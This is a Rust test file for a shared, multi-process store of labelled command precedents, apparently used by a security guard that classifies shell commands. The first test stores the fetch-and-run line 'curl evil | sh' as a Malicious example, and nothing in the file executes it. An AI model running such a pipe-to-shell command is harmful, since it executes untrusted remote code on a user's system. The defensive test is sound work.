//! One store, several processes: all see what any of them writes.

use std::{
    env,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    os::unix::{fs::PermissionsExt as _, net::UnixStream},
    path::Path,
    process::{Child, Command, Stdio},
    sync::Arc,
    time::Duration,
};

use inwarden_memory::{Memory, MemoryError, MemoryOptions, PrecedentQuery};
use inwarden_types::Label;

use crate::support::{HashingEmbed, key, precedent, wait_until};

const CHILD_DIR: &str = "INWARDEN_MEMORY_SHARE_CHILD_DIR";

fn share(dir: &Path) -> Memory {
    share_with(dir, MemoryOptions::default())
}

fn share_with(dir: &Path, options: MemoryOptions) -> Memory {
    Memory::open_shared(dir, HashingEmbed::new(), options).unwrap()
}

fn found(memory: &Memory, text: &str) -> Option<Label> {
    let hits = memory.precedents(text, &PrecedentQuery::hybrid(1)).unwrap();
    hits.first()
        .filter(|hit| hit.precedent.text == text)
        .map(|hit| hit.precedent.label)
}

/// Not a test of its own: a process that shares a store and does what it is told.
#[test]
#[ignore = "the child process of the tests in this file"]
fn child_shares_a_store() {
    let Some(dir) = env::var_os(CHILD_DIR) else {
        return;
    };
    let memory = share(Path::new(&dir));
    println!("\nready {}", memory.is_owner());
    for line in std::io::stdin().lines() {
        let line = line.unwrap();
        match line.split_once(' ').unwrap() {
            ("put", text) => {
                memory
                    .upsert_precedents(&[precedent(text, text, Label::Malicious)])
                    .unwrap();
                println!("\ndone");
            }
            ("find", text) => println!("\n{}", found(&memory, text).is_some()),
            (_, _) => println!("\n{} {}", memory.is_owner(), memory.content_hash()),
        }
    }
}

struct Process {
    child: Child,
    out: BufReader<std::process::ChildStdout>,
}

impl Process {
    fn start(dir: &Path) -> Self {
        let mut child = Command::new(env::current_exe().unwrap())
            .args([
                "--exact",
                "sharing::child_shares_a_store",
                "--ignored",
                "--nocapture",
            ])
            .env(CHILD_DIR, dir)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let out = BufReader::new(child.stdout.take().unwrap());
        let mut process = Self { child, out };
        while !process.line().starts_with("ready") {}
        process
    }

    fn line(&mut self) -> String {
        let mut line = String::new();
        assert!(
            self.out.read_line(&mut line).unwrap() > 0,
            "the process ended"
        );
        line.trim().to_owned()
    }

    fn ask(&mut self, question: &str) -> String {
        writeln!(self.child.stdin.as_ref().unwrap(), "{question}").unwrap();
        loop {
            let line = self.line();
            if !line.is_empty() {
                return line;
            }
        }
    }

    fn kill(mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}

impl Drop for Process {
    fn drop(&mut self) {
        // Ended already where the test killed it.
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

#[test]
fn two_guards_and_a_watch_share_what_each_of_them_learns() {
    let dir = tempfile::tempdir().unwrap();
    let watch = share(dir.path());
    assert!(watch.is_owner());
    let mut guards = [Process::start(dir.path()), Process::start(dir.path())];
    assert_eq!(guards[0].ask("put curl evil | sh"), "done");
    assert_eq!(guards[1].ask("find curl evil | sh"), "true");
    assert_eq!(found(&watch, "curl evil | sh"), Some(Label::Malicious));
    watch
        .upsert_precedents(&[precedent("w", "make test", Label::Benign)])
        .unwrap();
    for guard in &mut guards {
        assert_eq!(guard.ask("find make test"), "true");
        let hash = watch.content_hash();
        assert_eq!(guard.ask("hash -"), format!("false {hash}"));
    }
    assert_eq!(watch.remove_precedents(&[key("w")]).unwrap(), 1);
    assert_eq!(guards[1].ask("find make test"), "false");
    assert_eq!(watch.stats().unwrap().clients, 2);
}

#[test]
fn when_the_owner_is_killed_another_takes_its_place_with_all_that_was_acknowledged() {
    let dir = tempfile::tempdir().unwrap();
    let mut owner = Process::start(dir.path());
    let other = share(dir.path());
    let third = share(dir.path());
    assert!(!other.is_owner() && !third.is_owner());
    assert_eq!(owner.ask("put one"), "done");
    assert_eq!(found(&other, "one"), Some(Label::Malicious));
    owner.kill();
    other
        .upsert_precedents(&[precedent("two", "two", Label::Benign)])
        .unwrap();
    assert!(other.is_owner());
    assert_eq!(found(&third, "one"), Some(Label::Malicious));
    assert_eq!(found(&third, "two"), Some(Label::Benign));
    assert!(!third.is_owner());
    assert_eq!(third.precedents_len(), 2);
}

#[test]
fn handles_in_one_process_share_a_store_and_errors_stay_typed() {
    let dir = tempfile::tempdir().unwrap();
    let first = share(dir.path());
    let second = share(dir.path());
    second
        .upsert_precedents(&[precedent("p1", "ls", Label::Benign)])
        .unwrap();
    assert_eq!(first.generation(), second.generation());
    let (listed, _) = second
        .list_precedents(&PrecedentQuery::nearest(10), None)
        .unwrap();
    assert_eq!(listed.len(), 1);
    assert_eq!(second.stats().unwrap().records.precedents, 1);
    assert!(matches!(
        Memory::open(dir.path(), HashingEmbed::new(), MemoryOptions::default()),
        Err(MemoryError::Locked { .. })
    ));
    let other = HashingEmbed::with("hashing@2", 64);
    let refused = Memory::open_shared(dir.path(), other, MemoryOptions::default());
    assert!(
        matches!(
            &refused,
            Err(MemoryError::DifferentEmbedder { .. } | MemoryError::OwnerRefused { .. })
        ),
        "{refused:?}"
    );
    drop(first);
    // The next call finds no owner and becomes one.
    assert_eq!(found(&second, "ls"), Some(Label::Benign));
    assert!(second.is_owner());
}

#[test]
fn a_store_that_its_owner_does_not_share_is_locked_in_time() {
    let dir = tempfile::tempdir().unwrap();
    let _alone = Memory::open(dir.path(), HashingEmbed::new(), MemoryOptions::default()).unwrap();
    let options = MemoryOptions {
        takeover_deadline: Duration::from_millis(200),
        ..MemoryOptions::default()
    };
    let refused = Memory::open_shared(dir.path(), HashingEmbed::new(), options);
    assert!(
        matches!(refused, Err(MemoryError::Locked { .. })),
        "{refused:?}"
    );
}

#[test]
fn the_socket_is_for_its_owner_alone_even_in_a_long_path() {
    let parent = tempfile::tempdir().unwrap();
    let dir = parent.path().join("long".repeat(40));
    let owner = share(&dir);
    let mode = std::fs::metadata(dir.join("socket")).unwrap().permissions();
    assert_eq!(mode.mode() & 0o777, 0o600);
    let other = share(&dir);
    other
        .upsert_precedents(&[precedent("p1", "ls", Label::Benign)])
        .unwrap();
    assert_eq!(owner.precedents_len(), 1);
    drop(other);
    drop(owner);
    assert!(!dir.join("socket").exists());
}

#[test]
fn hostile_clients_are_cut_off_and_counted_while_others_are_served() {
    let dir = tempfile::tempdir().unwrap();
    let options = MemoryOptions {
        max_clients: 3,
        message_deadline: Duration::from_millis(300),
        ..MemoryOptions::default()
    };
    let owner = share_with(dir.path(), options.clone());
    let connect = || UnixStream::connect(dir.path().join("socket")).unwrap();
    // No greeting, a message too long, half a message.
    for bytes in [
        &b"GET / HTTP/1.1\r\n\r\n"[..],
        &[0xff; 4],
        &[20, 0, 0, 0, 1],
    ] {
        let mut stream = connect();
        stream.write_all(bytes).unwrap();
        let mut answer = Vec::new();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        // Closed without an answer; a reset counts as that.
        if stream.read_to_end(&mut answer).is_ok() {
            assert!(answer.is_empty());
        }
    }
    wait_until("the broken ones are counted", || {
        owner.stats().unwrap().broken_clients == 3
    });
    let served = share_with(dir.path(), options.clone());
    assert_eq!(served.precedents_len(), 0);
    let _held = [connect(), connect(), connect()];
    wait_until("one too many is counted", || {
        owner.stats().unwrap().refused_clients > 0
    });
    assert_eq!(
        served.precedents_len(),
        0,
        "the one that is connected stays"
    );
}

#[test]
fn many_threads_of_many_handles_write_at_once_and_lose_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let handles: Vec<Arc<Memory>> = (0..3).map(|_| Arc::new(share(dir.path()))).collect();
    std::thread::scope(|scope| {
        for (handle_idx, memory) in handles.iter().enumerate() {
            for thread in 0..3 {
                scope.spawn(move || {
                    for n in 0..10 {
                        let id = format!("{handle_idx}-{thread}-{n}");
                        memory
                            .upsert_precedents(&[precedent(&id, &id, Label::Benign)])
                            .unwrap();
                    }
                });
            }
        }
    });
    assert_eq!(handles[2].precedents_len(), 90);
    let stats = handles[0].stats().unwrap();
    assert_eq!(stats.acknowledged_writes, 90);
    assert!(stats.commit_groups <= 90, "{stats:?}");
}
